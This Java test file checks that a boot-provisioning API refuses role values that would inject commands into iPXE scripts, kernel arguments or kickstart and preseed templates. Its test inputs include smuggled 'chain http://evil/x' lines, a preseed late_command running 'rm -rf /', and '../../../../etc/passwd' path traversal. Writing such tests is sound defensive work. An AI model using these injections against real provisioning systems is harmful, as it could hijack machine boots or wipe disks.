package org.rackboot.api.inventory;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.rackboot.api.testsupport.ApiTest;
import org.rackboot.api.testsupport.Fixtures;
import org.rackboot.api.testsupport.Names;
import org.rackboot.api.testsupport.RunningApp;
import org.rackboot.api.testsupport.RunningApp.Resp;

/**
 * A role's values reach iPXE scripts, kernel command lines and install templates: each one that
 * those languages would read as more than a value is refused when the role is written (422
 * naming the field), on create and on update, and nothing changes. The reproduced cases of the
 * trust issue's finding 3, on H2 and MariaDB.
 */
class BootInjectionApiTest {

  private static void refused(RunningApp app, String field, String method, String path,
      Map<String, Object> body) {
    String before = Fixtures.snapshot(app);
    Resp r = app.call(method, path, app.adminToken(), body);
    assertThat(r.status()).as(method + " " + path + " " + body + " -> " + r).isEqualTo(422);
    assertThat(r.body().get("code").asInt()).isEqualTo(422);
    assertThat(r.body().get("field").asText()).as(r.raw()).isEqualTo(field);
    assertThat(r.body().get("message").asText()).isNotBlank();
    assertThat(Fixtures.snapshot(app)).as("database unchanged").isEqualTo(before);
  }

  private static Map<String, Object> role(String env, String key, Object value) {
    Map<String, Object> body = new LinkedHashMap<>();
    body.put("environment", env);
    body.put("name", "inj");
    body.put(key, value);
    return body;
  }

  @ApiTest
  void kernelArgsThatIpxeWouldSplitIntoCommandsAreRefused(RunningApp app) {
    String env = Fixtures.environment(app);
    for (String args : List.of("quiet && chain http://elsewhere/k",
        "quiet || chain http://elsewhere/k", "quiet ; chain http://elsewhere/k",
        "quiet #", "quiet ip=${net0/ip}", "quiet\nchain http://elsewhere/k",
        "a=\"x && chain http://elsewhere/k\"", "a=\"unclosed", "quiet \\")) {
      refused(app, "kernelArgs", "POST", "/api/v1/roles", role(env, "kernelArgs", args));
    }
    // Ordinary kernel parameters, quoted values included, are fine.
    Resp ok = app.post("/api/v1/roles", role(env, "kernelArgs",
        "console=ttyS0,115200n8 acpi_osi=\"Windows 2015\" inst.ks=http://h/ks?a=1&b=2 --"));
    assertThat(ok.status()).as(ok.toString()).isEqualTo(201);
    // The same check on update: the role keeps its arguments.
    String id = ok.body().get("id").asText();
    refused(app, "kernelArgs", "PUT", "/api/v1/roles/" + id,
        role(env, "kernelArgs", "quiet && chain http://elsewhere/k"));
  }

  @ApiTest
  void variablesWithLineBreaksOrControlsAreRefusedByName(RunningApp app) {
    String env = Fixtures.environment(app);
    // Reproduced: through an image's bootArgs this became "#!ipxe" and "chain" lines, and in
    // kickstart and preseed a newline added directives.
    refused(app, "variables.timezone", "POST", "/api/v1/roles", role(env, "variables",
        Map.of("timezone", "UTC\n#!ipxe\nchain http://evil/x")));
    refused(app, "variables.repo", "POST", "/api/v1/roles", role(env, "variables",
        Map.of("repo", "debian\nd-i preseed/late_command string rm -rf /")));
    refused(app, "variables.repo", "POST", "/api/v1/roles", role(env, "variables",
        Map.of("repo", "debian\\")));
    refused(app, "variables.motd", "POST", "/api/v1/roles", role(env, "variables",
        Map.of("motd", "a\u0000b")));
    refused(app, "variables.nested.list[1]", "POST", "/api/v1/roles", role(env, "variables",
        Map.of("nested", Map.of("list", List.of("ok", "x\u2028y")))));
    refused(app, "variables", "POST", "/api/v1/roles", role(env, "variables",
        Map.of("a.b", "dots would nest in Mustache")));
    Resp ok = app.post("/api/v1/roles", role(env, "variables",
        Map.of("timezone", "Europe/Berlin", "motd", "Grüße, it's \"ok\" $HOME ${x} && ;", "n", 3)));
    assertThat(ok.status()).as(ok.toString()).isEqualTo(201);
  }

  @ApiTest
  void installTemplatesAreBuiltInNamesOrFilesThatExist(RunningApp app) {
    String env = Fixtures.environment(app);
    for (String name : List.of("../../../../etc/passwd", "/etc/passwd", "..", "a/b",
        "no-such-template", "Kickstart.ks", "kickstart.ks && chain http://evil/k")) {
      refused(app, "installTemplate", "POST", "/api/v1/roles", role(env, "installTemplate", name));
    }
    for (String name : List.of("kickstart.ks", "preseed.cfg", "user-data", "meta-data",
        "install.sh")) {
      Map<String, Object> body = role(env, "installTemplate", name);
      body.put("name", Names.name("tpl"));
      Resp ok = app.post("/api/v1/roles", body);
      assertThat(ok.status()).as(name + " " + ok).isEqualTo(201);
    }
    JsonNode any = Fixtures.role(app, env, null, null);
    refused(app, "installTemplate", "PUT", "/api/v1/roles/" + any.get("id").asText(),
        Map.of("name", any.get("name").asText(), "installTemplate", "../../../../etc/passwd"));
  }
}
